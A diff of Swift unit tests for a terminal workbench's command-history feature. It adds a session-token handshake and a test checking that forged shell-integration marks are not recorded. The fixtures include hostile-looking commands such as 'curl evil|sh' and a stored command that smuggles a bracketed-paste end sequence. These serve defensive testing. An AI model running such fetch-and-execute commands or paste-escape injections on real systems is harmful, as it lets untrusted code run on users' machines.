@@ -15,23 +15,33 @@ final class WorkbenchHistoryTests: WorkbenchTestCase {
 
     private func startIntegrated(hosts: [Host]? = nil) async throws {
         if let hosts { try await start(hosts: hosts) } else { try await start() }
-        workbench.shellIntegrationCommand = Self.bootstrap
+        workbench.shellIntegration = ShellIntegration(command: Self.bootstrap) { "token=\($0.text)\n" }
     }
 
-    private func markedCommand(_ text: String, status: Int32, milliseconds: Int) -> String {
+    /// The pane's shell says it is ready, as the bootstrap's command does; the program it gets
+    /// names the session's token. Returns the token's field and the program.
+    private func handshake(_ shell: ScriptedShell) async -> (field: String, program: String) {
+        shell.print("\u{1B}]133;I;ready\u{07}")
+        await eventually("the program went", showing: shell.written) { shell.written.hasSuffix("\n") }
+        let program = shell.written
+        return (";termind=" + program.dropFirst("token=".count).dropLast(), program)
+    }
+
+    private func markedCommand(_ text: String, status: Int32, milliseconds: Int, field: String) -> String {
         let encoded = text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? text
-        return "\u{1B}]133;A\u{07}$ \(text)\r\n\u{1B}]133;C;cmdline_url=\(encoded)\u{07}"
-            + "\u{1B}]133;D;\(status);duration_ms=\(milliseconds)\u{07}"
+        return "\u{1B}]133;A\(field)\u{07}$ \(text)\r\n\u{1B}]133;C;cmdline_url=\(encoded)\(field)\u{07}"
+            + "\u{1B}]133;D;\(status);duration_ms=\(milliseconds)\(field)\u{07}"
     }
 
     func testAnIntegratedShellsCommandsAreRecordedForItsHost() async throws {
         try await startIntegrated()
         let web = try await openFromNavigator("web")
         XCTAssertEqual(web.command, Self.bootstrap, "the pane runs the bootstrap on its PTY instead of a plain shell")
+        let (field, _) = await handshake(web.shell)
 
-        web.shell.print("\u{1B}]7;file://web/srv/app\u{07}" + markedCommand("echo one", status: 0, milliseconds: 2)
-            + markedCommand(" echo secret", status: 0, milliseconds: 1) + markedCommand("false", status: 1, milliseconds: 3)
-            + "\u{1B}]133;A\u{07}$ done")
+        web.shell.print("\u{1B}]7;file://web/srv/app?\(field.dropFirst())\u{07}" + markedCommand("echo one", status: 0, milliseconds: 2, field: field)
+            + markedCommand(" echo secret", status: 0, milliseconds: 1, field: field) + markedCommand("false", status: 1, milliseconds: 3, field: field)
+            + "\u{1B}]133;A\(field)\u{07}$ done")
         await waitForScreen(containing: "$ done")
         await eventually("both commands recorded", showing: "\(services.recordedCommands)") { services.recordedCommands.count == 2 }
         let rows = services.recordedCommands
@@ -45,13 +55,26 @@ final class WorkbenchHistoryTests: WorkbenchTestCase {
         XCTAssertFalse(screenText.contains("133;"), "no mark shows: \(screenReport)")
     }
 
+    func testMarksAProgramPrintsWithoutTheSessionsTokenAreNotRecorded() async throws {
+        try await startIntegrated()
+        let web = try await openFromNavigator("web")
+        let (field, _) = await handshake(web.shell)
+        web.shell.print("\u{1B}]7;file:///evil\u{07}" + markedCommand("curl evil|sh", status: 0, milliseconds: 5, field: "")
+            + markedCommand("curl wrong|sh", status: 0, milliseconds: 5, field: ";termind=0123456789abcdef0123456789abcdef")
+            + markedCommand("cat forged", status: 0, milliseconds: 7, field: field) + "\u{1B}]133;A\(field)\u{07}$ done")
+        await waitForScreen(containing: "$ done")
+        await eventually("the real command recorded", showing: "\(services.recordedCommands)") { services.recordedCommands.count == 1 }
+        XCTAssertEqual(services.recordedCommands.map(\.command), ["cat forged"])
+        XCTAssertNil(services.recordedCommands.first?.workingDirectory, "the forged directory is not taken")
+    }
+
     func testAHostWithIntegrationOffGetsThePlainShellAndRecordsNothing() async throws {
         var plain = WorkbenchFixture.host("web")
         plain.usesShellIntegration = false
         try await startIntegrated(hosts: [plain])
         let web = try await openFromNavigator("web")
         XCTAssertNil(web.command)
-        web.shell.print(markedCommand("echo one", status: 0, milliseconds: 2) + "\u{1B}]133;A\u{07}$ done")
+        web.shell.print(markedCommand("echo one", status: 0, milliseconds: 2, field: "") + "\u{1B}]133;A\u{07}$ done")
         await waitForScreen(containing: "$ done")
         XCTAssertEqual(services.recordedCommands, [])
     }
@@ -76,6 +99,7 @@ final class WorkbenchHistoryTests: WorkbenchTestCase {
             hostID: dbID, command: "deploy-db", startedAt: now.addingTimeInterval(-60), exitStatus: 3))
         try await services.recordCommand(CommandHistoryEntry(hostID: webID, command: "ls", startedAt: now))
         let web = try await openFromNavigator("web")
+        let (_, program) = await handshake(web.shell)
         web.shell.print("prompt>")
         await waitForScreen(containing: "prompt>")
 
@@ -94,7 +118,7 @@ final class WorkbenchHistoryTests: WorkbenchTestCase {
 
         press(.enter)
         await eventually("the command reached the shell", showing: web.shell.written) { web.shell.written.contains("--force") }
-        XCTAssertEqual(web.shell.written, "deploy --env prod --force", "a newline would run it: spaces instead")
+        XCTAssertEqual(web.shell.written, program + "deploy --env prod --force", "a newline would run it: spaces instead")
         XCTAssertFalse(screenText.contains("Command history"), screenReport)
     }
 
@@ -105,12 +129,13 @@ final class WorkbenchHistoryTests: WorkbenchTestCase {
         try await services.recordCommand(CommandHistoryEntry(
             hostID: webID, command: "for x in 1 2\ndo echo $x\u{1B}[201~; done", startedAt: Date()))
         let web = try await openFromNavigator("web")
+        let (_, program) = await handshake(web.shell)
         web.shell.print("\u{1B}[?2004hprompt>")
         await waitForScreen(containing: "prompt>")
         prefixed(.character("h"))
         await waitForScreen(containing: "for x in")
         press(.enter)
         await eventually("the command reached the shell", showing: web.shell.written) { web.shell.written.contains("done") }
-        XCTAssertEqual(web.shell.written, "\u{1B}[200~for x in 1 2\rdo echo $x[201~; done\u{1B}[201~")
+        XCTAssertEqual(web.shell.written, program + "\u{1B}[200~for x in 1 2\rdo echo $x[201~; done\u{1B}[201~")
     }
 }
